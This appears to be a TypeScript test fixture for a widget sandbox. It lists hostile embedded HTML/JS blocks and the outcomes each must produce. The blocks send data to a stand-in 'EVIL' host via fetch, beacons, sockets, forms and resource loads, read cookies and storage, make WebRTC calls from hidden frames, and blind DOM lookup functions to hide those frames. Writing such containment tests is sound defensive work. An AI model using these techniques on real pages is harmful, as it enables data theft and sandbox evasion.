/** What a hostile block tries, and what it gets to see of it. `log` writes into the block's own page. */
export interface BlockAttack {
  readonly name: string;
  /** `EVIL` stands for the address of a server that counts what comes. */
  readonly html: string;
  /** What the block must have logged. */
  readonly logs?: RegExp;
  /** It is taken down, and these are the words. */
  readonly ended?: "left";
  /** A navigation that is refused may still look up the host's name and connect, without asking for anything. */
  readonly mayConnect?: true;
}

const LOG = "<pre id=out></pre><script>const log = (words) => { out.textContent += words + '\\n'; };</script>";
const script = (code: string) => `${LOG}<script>${code}</script>`;
/** Logs what each of these gives, or that it threw. */
const tried = (...codes: string[]) =>
  script(
    `(async () => { for (const [name, run] of [${codes.map((code) => `[${JSON.stringify(code)}, async () => ${code}]`).join(", ")}]) {
      try { log(name + ' = ' + await run()); } catch (error) { log(name + ' threw'); }
    } log('done'); })();`,
  );
const allThrew = (count: number) => new RegExp(`^(?:.+ threw\\n){${count}}done`);

/** Sends a packet to the server `STUN` from whatever window it runs in. */
const CALL = `const call = new RTCPeerConnection({ iceServers: [{ urls: 'STUN' }] }); call.createDataChannel('a'); call.createOffer().then((offer) => call.setLocalDescription(offer));`;
const HIDDEN = `<script>${CALL}</script>`;
const quoted = JSON.stringify(HIDDEN).replaceAll("<", "\\u003c");
/** Puts other functions in the place of those by which a frame could be found and taken out. */
const BLINDED = `for (const [owner, name] of [[Element.prototype, 'querySelectorAll'], [Document.prototype, 'querySelectorAll'], [DocumentFragment.prototype, 'querySelectorAll'],
    [Element.prototype, 'matches'], [Element.prototype, 'remove'], [NodeList.prototype, 'item'], [Reflect, 'apply'], [Array.prototype, Symbol.iterator]]) owner[name] = () => null;
  Object.defineProperty(NodeList.prototype, 'length', { get: () => 0 }); Object.defineProperty(MutationRecord.prototype, 'addedNodes', { get: () => [] });
  Object.defineProperty(Array.prototype, '0', { set() {}, get() {}, configurable: true }); Object.prototype.get = () => 1;`;

export const BLOCK_ATTACKS: readonly BlockAttack[] = [
  { name: "leads itself elsewhere", html: script("location = 'EVIL/self?stolen'"), ended: "left", mayConnect: true },
  {
    name: "leads itself elsewhere later",
    html: script("setTimeout(() => { location.href = 'EVIL/later' }, 300)"),
    ended: "left",
    mayConnect: true,
  },
  {
    name: "leads itself to a page of data",
    html: script("location = 'data:text/html,<script>parent.postMessage(1)<\\/script>'"),
    ended: "left",
  },
  {
    name: "leads itself to a page that it made",
    html: script("location = URL.createObjectURL(new Blob(['a'], { type: 'text/html' }))"),
    ended: "left",
  },
  {
    name: "leads itself to nowhere",
    html: script("setTimeout(() => { location = 'about:blank' }, 200)"),
    ended: "left",
  },
  { name: "starts itself anew", html: script("setTimeout(() => location.reload(), 200)"), ended: "left" },
  {
    name: "starts itself anew without end",
    html: script("setTimeout(() => { location = 'about:srcdoc' }, 200)"),
    ended: "left",
  },
  {
    name: "is refreshed to another page",
    html: `${LOG}<meta http-equiv=refresh content="0;url=EVIL/refresh">`,
    ended: "left",
    mayConnect: true,
  },
  {
    name: "leads the widget elsewhere",
    html: tried("parent.location = 'EVIL/parent'", "parent.location.replace('EVIL/parent')"),
    logs: allThrew(2),
  },
  {
    name: "leads the host elsewhere",
    html: tried("top.location = 'EVIL/top'", "top.location.reload()"),
    logs: allThrew(2),
  },
  {
    name: "presses links to the host's window and to new ones",
    html: script(`for (const target of ['_top', '_parent', '_blank', 'other']) {
      const link = document.createElement('a'); link.href = 'EVIL/link' + target; link.target = target; document.body.append(link); link.click();
    } log('done')`),
    logs: /done/,
  },
  {
    name: "opens windows",
    html: tried("window.open('EVIL/open')", "window.open('about:blank', '_top')", "opener"),
    logs: /= null\n.+(?:= null|threw)\n.+= null/,
  },
  {
    name: "sends forms",
    html: `${LOG}<form id=form action="EVIL/form" method=post><input name=a value=b></form><iframe name=f></iframe><script>
      form.submit(); form.requestSubmit(); form.target = '_top'; form.submit(); log('done')</script>`,
    logs: /done/,
  },
  {
    name: "asks in dialogs",
    html: script("log([alert('a'), confirm('b'), prompt('c')].join()); print()"),
    logs: /^,false,$/m,
  },
  {
    name: "downloads",
    html: script(
      "const link = document.createElement('a'); link.download = 'a'; link.href = 'data:text/plain,a'; link.click(); log('done')",
    ),
    logs: /done/,
  },
  {
    name: "fetches",
    html: tried(
      "fetch('EVIL/fetch')",
      "fetch('EVIL/late', { keepalive: true })",
      "fetch('EVIL/plain', { mode: 'no-cors' })",
    ),
    logs: allThrew(3),
  },
  {
    name: "asks by older ways",
    html: script(`for (const run of [
      () => { const ask = new XMLHttpRequest(); ask.open('GET', 'EVIL/xhr'); ask.send(); },
      () => new WebSocket('EVIL/socket'.replace('http', 'ws')), () => new EventSource('EVIL/events'), () => fetchLater('EVIL/deferred', { activateAfter: 0 }),
      () => navigator.sendBeacon('EVIL/beacon', 'a'), () => new WebTransport('EVIL/transport'.replace('http', 'https')),
    ]) { try { run(); } catch {} } addEventListener('pagehide', () => navigator.sendBeacon('EVIL/bye', 'a')); log('done')`),
    logs: /done/,
  },
  {
    name: "loads pictures, films and plug-ins",
    html: `${LOG}<img src="EVIL/img"><img srcset="EVIL/srcset 2x"><picture><source srcset="EVIL/source"><img></picture>
      <svg><image href="EVIL/svg"/><use href="EVIL/use#a"/></svg><input type=image src="EVIL/input"><video src="EVIL/video" poster="EVIL/poster"></video>
      <audio src="EVIL/audio"></audio><object data="EVIL/object"></object><embed src="EVIL/embed"><table background="EVIL/ground"></table>
      <script>new Image().src = 'EVIL/image'; log('done')</script>`,
    logs: /done/,
  },
  {
    name: "loads styles, fonts and scripts",
    html: `${LOG}<style>@import 'EVIL/import'; @font-face { font-family: a; src: url(EVIL/font) } p { font-family: a; background: url(EVIL/back); cursor: url(EVIL/cursor), auto }</style>
      <p>a</p><link rel=stylesheet href="EVIL/sheet"><script src="EVIL/script"></script><script type=module>import('EVIL/module')</script><script>log('done')</script>`,
    logs: /done/,
  },
  {
    name: "loads ahead",
    html: `${LOG}${["prefetch", "preload", "modulepreload", "prerender", "manifest", "icon", "dns-prefetch", "next"]
      .map((rel) => `<link rel=${rel} as=image href="EVIL/${rel}">`)
      .join("")}
      <script type=speculationrules>{ "prefetch": [{ "source": "list", "urls": ["EVIL/rules"] }] }</script><a href="#" ping="EVIL/ping" id=a>a</a><script>a.click(); log('done')</script>`,
    logs: /done/,
  },
  {
    name: "gives itself another policy and another base",
    html: `<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'"><base href="EVIL/base/">${LOG}<img src=img><script>log(document.baseURI.includes('base'))</script>`,
    logs: /false/,
  },
  {
    name: "reads what others keep",
    html: tried(
      "localStorage.length",
      "sessionStorage.length",
      "document.cookie",
      "indexedDB.open('a').result",
      "caches.keys()",
      "navigator.serviceWorker.register('a')",
      "new SharedWorker('data:,')",
      "parent.document",
      "top.document",
      "parent.frames[0].document.cookie",
      "parent.canvasHost",
      "navigator.clipboard.readText()",
      "navigator.clipboard.writeText('a')",
    ),
    logs: allThrew(13),
  },
  {
    name: "runs workers",
    html: script(`const made = URL.createObjectURL(new Blob(['postMessage(1)']));
      for (const address of [made, 'data:text/javascript,postMessage(1)']) { try { const worker = new Worker(address); worker.onmessage = () => log('runs'); worker.onerror = () => log('refused'); } catch { log('refused'); } }`),
    logs: /^refused\nrefused\n$/,
  },
  {
    name: "makes frames of its own",
    html: `${LOG}<iframe srcdoc="<script>parent.log('runs')</script>"></iframe><iframe src="EVIL/frame"></iframe><iframe src="data:text/html,<script>top.postMessage(1, '*')</script>"></iframe>
      <script>addEventListener('load', () => setTimeout(() => log(document.querySelectorAll('iframe').length + ' frames'), 100))</script>`,
    logs: /^0 frames$/m,
    mayConnect: true,
  },
  {
    name: "asks for what a page may be given",
    html: tried(
      "document.documentElement.requestFullscreen()",
      "document.body.requestPointerLock()",
      "navigator.keyboard.lock()",
      "new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no))",
      "navigator.mediaDevices.getUserMedia({ video: true })",
      "navigator.mediaDevices.getDisplayMedia()",
      "navigator.usb.requestDevice({ filters: [] })",
      "documentPictureInPicture.requestWindow()",
      "navigator.wakeLock.request()",
      "showOpenFilePicker()",
      "queryLocalFonts()",
      "navigator.credentials.get({ password: true })",
      "navigator.requestMIDIAccess()",
      "new RTCPeerConnection()",
    ),
    logs: allThrew(14),
  },
  {
    name: "goes back in the host's history and fills it",
    html: script(
      "for (let at = 0; at < 60; at++) history.pushState(at, ''); history.back(); history.go(-1); log('done')",
    ),
    logs: /done/,
  },
  {
    name: "writes itself anew",
    html: `${LOG}<script>addEventListener('load', () => { document.open(); document.write('<pre id=out>rewritten</pre><img src="EVIL/rewritten">'); document.close(); log('kept'); })</script>`,
    logs: /^kept/,
  },
  {
    name: "takes our script out",
    html: script(
      "try { delete window.maestro; window.maestro = null; } catch {} for (const one of document.querySelectorAll('head script, head style')) one.remove(); log(typeof maestro.send)",
    ),
    logs: /function/,
  },
  {
    name: "calls others over WebRTC, in its own window and in frames that it hides",
    html: `${LOG}<div id=a></div><div><template shadowrootmode=closed><iframe srcdoc="${HIDDEN}"></iframe></template></div><iframe srcdoc="${HIDDEN}"></iframe>
      <script>try { ${CALL} } catch {} document.write('<div><template shadowroot' + 'mode=closed>'); document.write(${quoted});
      const frame = () => { const made = document.createElement('iframe'); made.srcdoc = ${quoted}; return made; };
      const copied = document.createElement('div'); copied.attachShadow({ mode: 'closed', clonable: true }).append(frame()); document.body.append(copied.cloneNode(true), document.importNode(copied, true));
      ${BLINDED}
      document.body.append(frame()); a.attachShadow({ mode: 'closed' }).append(frame());
      setTimeout(() => log('done'), 1500)</script>`,
    logs: /done/,
  },
];
